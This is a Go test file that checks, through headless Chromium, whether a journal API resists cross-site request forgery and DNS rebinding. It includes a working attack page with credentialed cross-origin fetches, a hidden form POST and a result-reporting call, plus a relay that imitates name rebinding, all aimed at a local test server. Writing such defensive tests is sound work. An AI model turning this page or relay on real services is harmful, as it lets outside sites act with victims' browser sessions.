package api_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"doelbinding/api"
	"doelbinding/engine/journal"
)

// browser gives the program of a browser. Without one the test is skipped; with CI=true it fails.
func browser(t *testing.T) string {
	t.Helper()
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if program, err := exec.LookPath(name); err == nil {
			return program
		}
	}
	if os.Getenv("CI") == "true" {
		t.Fatal("a browser (chromium) is required with CI=true")
	}
	t.Skip("SKIPPED: there is no chromium; CI will run this")
	return ""
}

// visit opens a page in a browser to which every name under .example is this machine, and gives what the page reports.
func visit(t *testing.T, url string, reports <-chan map[string]string) map[string]string {
	t.Helper()
	c := exec.Command(browser(t), "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--remote-debugging-port=0",
		"--disable-background-networking", "--user-data-dir="+t.TempDir(), "--host-resolver-rules=MAP *.example 127.0.0.1", url)
	c.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = syscall.Kill(-c.Process.Pid, syscall.SIGKILL) // with all that it started
		_ = c.Wait()
	}()
	select {
	case got := <-reports:
		return got
	case <-time.After(time.Minute):
		t.Fatal("the page reports nothing")
	}
	return nil
}

const script = `<!doctype html><meta charset=utf-8><iframe name=f></iframe>
<form id=form target=f method=post enctype=text/plain action="TARGET/v1/journal/obligations/OWED/fulfilled"><input name=x value=y></form>
<script>
const got = {}, tried = [];
const attempt = (name, path, options) => tried.push(fetch('TARGET' + path, {cache: 'no-store', ...options})
  .then(async w => { got[name] = w.status + ' ' + await w.text() }).catch(e => { got[name] = 'error ' + e }));
const blind = {mode: 'no-cors', credentials: 'include'};
attempt('look', '/v1/journal/records', SAME ? {} : blind);
attempt('evaluation', '/access/v1/evaluation', {...blind, method: 'POST', body: '{}'});
attempt('fulfilled', '/v1/journal/obligations/OWED/fulfilled', {...blind, method: 'POST'});
attempt('description', '/access/v1/openapi.json');
tried.push(new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.src = 'TARGET/v1/journal/obligations'; }));
tried.push(new Promise(done => { document.querySelector('iframe').onload = done; document.getElementById('form').submit(); }));
Promise.all(tried).then(() => fetch('REPORT', {method: 'POST', mode: 'no-cors', body: JSON.stringify(got)}));
</script>`

// attacker serves a page on two sites: one under a name of its own, and one whose name turns into that of the service as soon as the page was
// read. The second is what rebinding a name does, seen from the browser: the same origin, another machine.
func attacker(t *testing.T, target, owed string) (elsewhere, rebound string, reports chan map[string]string) {
	t.Helper()
	reports = make(chan map[string]string, 1)
	var report string
	page := func(same bool) string {
		to := target
		if same {
			to = ""
		}
		return strings.NewReplacer("TARGET", to, "OWED", owed, "SAME", fmt.Sprint(same), "REPORT", report).Replace(script)
	}
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/report" {
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, page(false))
			return
		}
		got := map[string]string{}
		if err := json.NewDecoder(r.Body).Decode(&got); err != nil {
			t.Error(err)
		}
		reports <- got
	}))
	t.Cleanup(site.Close)
	report = site.URL + "/report"
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { listener.Close() })
	var turned atomic.Bool
	go func() {
		for {
			c, err := listener.Accept()
			if err != nil {
				return
			}
			go relay(c, &turned, strings.TrimPrefix(target, "http://"), page(true))
		}
	}()
	named := func(name, address string) string {
		_, port, _ := net.SplitHostPort(strings.TrimPrefix(address, "http://"))
		return "http://" + name + ".example:" + port + "/"
	}
	return named("elders", site.URL), named("gewend", listener.Addr().String()), reports
}

// relay answers with a page, and from then on passes what it gets on to the service, byte for byte.
func relay(c net.Conn, turned *atomic.Bool, service, page string) {
	defer c.Close()
	first := make([]byte, 64<<10)
	n, err := c.Read(first)
	if err != nil {
		return
	}
	if strings.HasPrefix(string(first[:n]), "GET / ") && turned.CompareAndSwap(false, true) {
		fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s", len(page), page)
		return
	}
	s, err := net.Dial("tcp", service)
	if err != nil {
		return
	}
	defer s.Close()
	_, _ = s.Write(first[:n])
	go func() { _, _ = io.Copy(s, c) }()
	_, _ = io.Copy(c, s)
}

// A real browser that shows a page of somebody else's cannot be made to look into the journal, to write in it, or to report an obligation
// done: not from another origin, and not under a name that was rebound. The same page can do all of it when its name is in the list, which
// shows that the page is what it should be.
func TestABrowserLendsNobodyItsPlace(t *testing.T) {
	browser(t)
	for _, allowed := range []bool{false, true} {
		t.Run(fmt.Sprint("allowed ", allowed), func(t *testing.T) {
			var hosts []string
			var inner atomic.Pointer[api.Service]
			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { inner.Load().ServeHTTP(w, r) }))
			defer server.Close()
			elsewhere, rebound, reports := attacker(t, server.URL, "0.0.0")
			if allowed {
				hosts = []string{strings.Trim(elsewhere, "htp:/"), strings.Trim(rebound, "htp:/")}
			}
			s, j, _ := recorded(t, unbroken, func(c *api.Config) { c.Hosts = hosts })
			inner.Store(s)
			calls := func() (n int) {
				for _, err := range journal.NewLooker(j.Store).Calls(t.Context(), journal.Filter{}) {
					if err != nil {
						t.Fatal(err)
					}
					n++
				}
				return n
			}
			got := visit(t, elsewhere, reports)
			if !strings.HasPrefix(got["description"], "200 {") {
				t.Errorf("what anybody may read cannot be read: %.100s", got["description"])
			}
			if n := calls(); n > 0 != allowed {
				t.Errorf("a page elsewhere wrote %d records: %v", n, got)
			}
			before := calls()
			got = visit(t, rebound, reports)
			if n := calls() - before; n > 0 != allowed {
				t.Errorf("a page under a rebound name wrote %d records: %v", n, got)
			}
			want := "421 "
			if allowed {
				want = `200 {"records"`
			}
			if !strings.HasPrefix(got["look"], want) {
				t.Errorf("under a rebound name the journal says %.200s", got["look"])
			}
		})
	}
}
